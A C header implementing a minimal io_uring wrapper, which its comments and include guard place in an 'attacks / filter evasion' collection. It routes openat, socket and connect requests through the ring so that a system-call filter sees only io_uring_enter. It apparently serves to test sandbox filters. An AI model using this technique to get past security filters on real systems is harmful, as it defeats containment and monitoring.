/* SPDX-License-Identifier: MIT */
/*
 * ring.h - io_uring with nothing but its own three system calls.
 *
 * An io_uring is a queue of requests in memory that is shared with the kernel. The kernel carries
 * them out itself: a filter of system calls sees io_uring_enter(2), and never the openat, socket or
 * connect inside. That is all the attacks need, one request at a time:
 *
 *     ring_do: write one submission entry -> io_uring_enter(1, 1) -> read one completion entry
 */
#ifndef ATTACKS_FILTER_EVASION_RING_H
#define ATTACKS_FILTER_EVASION_RING_H

#include <errno.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
	int fd;
	struct io_uring_params p;
	struct io_uring_sqe *sqes; /* the submission entries                         */
	char *rings;               /* both rings' heads, tails, masks and completions */
};

/* Set up a ring of 4 entries. 0, or -1 with errno. Kernels since 5.4 map both rings at once. */
static inline int ring_open(struct ring *r)
{
	size_t sq, cq;

	*r = (struct ring){ 0 };
	r->fd = (int)syscall(SYS_io_uring_setup, 4, &r->p);
	if (r->fd < 0)
		return -1;
	sq = r->p.sq_off.array + r->p.sq_entries * sizeof(unsigned);
	cq = r->p.cq_off.cqes + r->p.cq_entries * sizeof(struct io_uring_cqe);
	r->rings = mmap(NULL, sq > cq ? sq : cq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd,
			IORING_OFF_SQ_RING);
	r->sqes = mmap(NULL, r->p.sq_entries * sizeof(*r->sqes), PROT_READ | PROT_WRITE,
		       MAP_SHARED, r->fd, IORING_OFF_SQES);
	return r->rings == MAP_FAILED || r->sqes == MAP_FAILED ? -1 : 0;
}

/* Have the kernel carry out one request. Its result, or -1 with errno, as the call itself. */
static inline int ring_do(struct ring *r, struct io_uring_sqe request)
{
	unsigned *tail = (unsigned *)(r->rings + r->p.sq_off.tail);
	unsigned *array = (unsigned *)(r->rings + r->p.sq_off.array);
	unsigned *head = (unsigned *)(r->rings + r->p.cq_off.head);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(r->rings + r->p.cq_off.cqes);
	unsigned slot = *tail & (r->p.sq_entries - 1);
	int result;

	r->sqes[slot] = request;
	array[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	result = cqes[*head & (r->p.cq_entries - 1)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	if (result >= 0)
		return result;
	errno = -result;
	return -1;
}

#endif
